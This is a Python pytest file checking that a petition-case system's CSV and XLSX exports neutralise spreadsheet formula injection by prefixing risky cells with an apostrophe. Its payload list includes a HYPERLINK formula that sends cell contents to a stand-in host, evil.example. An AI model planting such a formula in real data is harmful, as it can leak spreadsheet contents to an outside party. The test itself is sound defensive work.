"""Formula injection (CWE-1236): a title or name typed as `=HYPERLINK(…)` must reach the exported
file as text, never as a formula a spreadsheet would run when the file is opened.

The rule (OWASP "CSV injection"): a cell starting with = + - @, a tab or a carriage return is
written with a leading apostrophe, the spreadsheets' own sign for "text". Checked in every
export the issue names — cases, ledger entries and their parties, the overdue list, the
supervision report's cases, the audit log — in .csv and .xlsx.
"""

from __future__ import annotations

import csv
import io
from datetime import datetime

import openpyxl
import pytest
from sqlalchemy import insert

from app.audit.models import AuditEntry
from tests.ledgers.support import make_entry
from tests.reports.support import add_cases, org_id

# What someone might type into a title or a name, one per formula start.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A2,"详情")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1+1)",
    "\t=1+2",
    "\r=1+2",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"), newline="")))


def _xlsx(response) -> list[list[str]]:
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data()), read_only=True).worksheets[0]
    return [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]


@pytest.fixture
def planted(db_session):
    """Overdue cases, ledger entries (title and party) and an audit entry carrying the payloads."""
    town = org_id(db_session, "城关镇")
    add_cases(db_session, [
        {"township_id": town, "title": payload, "petitioner_names": payload,
         "received_at": datetime(2015, 3, 2, 9, 0), "next_due_at": datetime(2015, 4, 1, 17, 0),
         "due_at": datetime(2015, 5, 1, 17, 0)}
        for payload in PAYLOADS
    ])
    for payload in PAYLOADS:
        make_entry(db_session, title=payload, parties=[(payload, None, None)])
    db_session.execute(insert(AuditEntry.__table__), [
        {"at": datetime(2015, 3, 2, 9, 0), "kind": "update", "username": "admin", "model": "petition_case",
         "summary": payload, "path": "/cases/edit/1"} for payload in PAYLOADS
    ])
    db_session.commit()


EXPORTS = [
    # (who, url, the header of a column carrying a payload)
    ("county_manager", "/cases/export/{fmt}", "标题"),
    ("county_manager", "/cases/export/{fmt}", "信访人"),
    ("county_manager", "/ledgers/entries/export/{fmt}", "矛盾纠纷"),
    ("county_manager", "/ledgers/entries/export/{fmt}", "当事人"),
    ("county_supervisor", "/supervision/overdue/export/{fmt}", "标题"),
    ("county_supervisor", "/reports/supervision/export/cases/{fmt}", "标题"),
    ("admin", "/audit/export/{fmt}", "对象"),
]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_no_exported_cell_is_a_formula(planted, client_as, fmt):
    clients = {}
    for username, url, header in EXPORTS:
        client = clients.setdefault(username, client_as(username))
        response = client.post(url.format(fmt=fmt))
        rows = _csv(response) if fmt == "csv" else _xlsx(response)
        assert header in rows[0], (url, rows[0])
        column = rows[0].index(header)
        shown = {row[column] for row in rows[1:]}
        # Each payload is there, as text: the apostrophe, then exactly what was typed.
        for payload in PAYLOADS:
            assert "'" + payload in shown, (url, header, payload)
        # And no cell of the whole file starts like a formula.
        for row in rows[1:]:
            for value in row:
                assert not value.startswith(FORMULA_START) or value.lstrip("+-").replace(".", "").rstrip(
                    "%").isdigit(), (url, value)
